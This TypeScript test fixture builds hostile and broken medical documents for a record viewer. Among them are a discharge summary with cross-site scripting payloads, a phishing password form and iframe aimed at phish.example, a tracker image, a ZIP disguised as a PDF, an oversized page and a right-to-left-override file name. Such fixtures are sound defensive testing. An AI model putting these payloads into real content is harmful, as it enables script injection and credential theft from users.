import type { Chart } from '../chart.ts'
import { day } from '../day.ts'
import { writeContent, writeFhirDocument } from '../writers/document.ts'
import type { Occasion } from '../writers/header-segments.ts'
import { condition } from './coded-entries.ts'
import { DISCHARGE_SUMMARY, REFERRAL } from './fhir-document.ts'
import { pdfOf, pdfOfPages } from './pdf.ts'

const utf8 = (text: string) => new TextEncoder().encode(text)

/** Narrative that tries whatever the rules for content of other institutions forbid (security-safety.md §D, D1, D12). */
const HOSTILE_MARKUP = [
  '<p onclick="alert(1)" style="position:fixed;inset:0" id="main" class="banner">心不全の経過は良好です。</p>',
  '<script>alert(1)</script>',
  '<img src="https://tracker.example/p.png" alt="心電図"/><img src="x" onerror="alert(1)"/>',
  '<a href="javascript:alert(1)">検査結果</a>　<a href="https://phish.example/login">再ログイン</a>',
  '<form action="https://phish.example"><input name="password" value="x"/></form>',
  '<iframe src="https://phish.example"></iframe><object data="x.swf"></object>',
  '<svg><script>alert(1)</script></svg><math><mtext><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;"/></mtext></math>',
  '<table><tr><td>体重</td><td>62.1 kg</td></tr></table>',
].join('')

/**
 * Documents that are broken or meant to harm, of somebody whose records are damaged anyway. Their files are not called
 * `document.json`: they are no valid documents. To be written last: keys follow one another.
 */
export function hostileDocuments(b: Chart): void {
  const at = (date: string): Occasion => ({ day: day(date), time: '13:00', department: '23', setting: 'O' })
  writeFhirDocument(
    b,
    at('2026-10-12'),
    DISCHARGE_SUMMARY,
    [
      { code: '333', title: '入院中経過', markup: HOSTILE_MARKUP },
      { code: '344', title: '退院時診断', text: '鉄欠乏性貧血', entries: [condition('鉄欠乏性貧血', 'D509')] },
    ],
    { fileName: 'summary.json' },
  )
  // The same person, spelled otherwise: may be acknowledged, not more (PID-6).
  writeFhirDocument(b, at('2026-10-13'), REFERRAL, [{ code: '950', title: '紹介目的', text: '鉄剤の継続のお願い。' }], {
    fileName: 'referral.json',
    patient: { ...b.person, given: '奈津' },
  })
  const pdf = pdfOf('検査結果報告書', ['途中で切れたファイル'])
  writeContent(b, at('2026-10-14'), 'laboratoryReport', { 'broken.pdf': pdf.slice(0, 300) })
  writeContent(b, at('2026-10-15'), 'laboratoryReport', {
    'report.pdf': Uint8Array.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x00, 0x00, 0x08, 0x00]),
  })
  // More pages than are laid out at once, and one of them a kilometre long.
  const sheets = Array.from({ length: 320 }, (_, index) => ({ title: `検査値一覧（${index + 1}）`, lines: ['値なし'] }))
  writeContent(b, at('2026-10-17'), 'laboratoryReport', {
    'long.pdf': pdfOfPages(sheets.map((sheet, index) => (index === 1 ? { ...sheet, height: 2_800_000 } : sheet))),
  })
  writeContent(b, at('2026-10-16'), 'attachment', {
    'note.txt': utf8('$B4ORM$N7k2L(B は変わりなし\u202e.txt\n'),
    'cut.json': utf8('{"resourceType":"Bundle","type":"document","entry":[{"resource":{"resourceType":"Compos'),
  })
}
